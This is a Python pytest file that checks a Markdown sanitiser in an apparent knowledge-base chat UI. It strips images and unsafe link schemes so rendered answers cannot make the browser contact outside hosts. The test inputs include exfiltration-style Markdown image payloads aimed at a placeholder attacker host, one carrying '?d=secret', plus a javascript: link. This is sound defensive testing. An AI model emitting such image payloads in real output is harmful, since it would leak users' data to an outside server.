"""ui.safe_markdown: what the Markdown of an answer / stored text may still make the browser do (issue 27 #3).
The browser half (nothing fetched, CSP) is tests/test_browser_confidentiality.py."""
from __future__ import annotations

import re

import pytest

from ui.history import messages, plain_answer
from ui.kb_tab import rebuild_text
from ui.render import answer_markdown
from ui.safe_markdown import safe_markdown

EVIL = "http://evil.test:8123"


@pytest.mark.parametrize("text", [
    f"![x]({EVIL}/p.gif?d=secret)", f"![x]( <{EVIL}/p.gif> \"t\")", f"![x][r]\n[r]: {EVIL}/p.gif",
    f"![x][r]\n\n[r]: <{EVIL}/p.gif>", f"![a ![b]]({EVIL}/n.gif)", "![x](//evil.test/p.gif)",
    f"![x]({EVIL}/a(b).gif)", f'<img src="{EVIL}/p.gif">', f"<{EVIL}/auto.gif>",
])
def test_no_image_survives(text):
    for out in (safe_markdown(text), answer_markdown(text), plain_answer(text)):
        assert "![" not in out.replace("!\\[", "") and "<img" not in out, out
        shown = re.sub(r"\]\(http://evil\.test:8123[^)\s]*\)（↗ evil\.test）", "", out)  # links that show their host
        assert "](http" not in shown and "](//" not in shown, out


def test_links_show_their_host_and_bad_schemes_lose_the_link():
    out = safe_markdown(f"见[官网]({EVIL}/click)。[j](javascript:alert(1)) [d](data:text/html,x)")
    assert f"[官网]({EVIL}/click)（↗ evil.test）" in out
    assert "](javascript:" not in out and "](data:" not in out


def test_answer_citations_and_text_kept():
    out = answer_markdown(f"电话是 400-800-1234[1]。![x]({EVIL}/p.gif)")
    assert '<a class="kb-cite" data-cite="1" href="#kb-src-1">[1]</a>' in out
    assert "400-800-1234" in out and "未加载：evil.test" in out


def test_replayed_questions_and_rebuild_names_defused():
    msgs = messages([{"question": f"![q]({EVIL}/q.gif)", "answer": f"![a]({EVIL}/a.gif)"}], active=0)
    assert all("![" not in m["content"] for m in msgs)
    assert "![" not in rebuild_text({"done": 0, "total": 1, "current": f"![f]({EVIL}/f.gif).txt"})
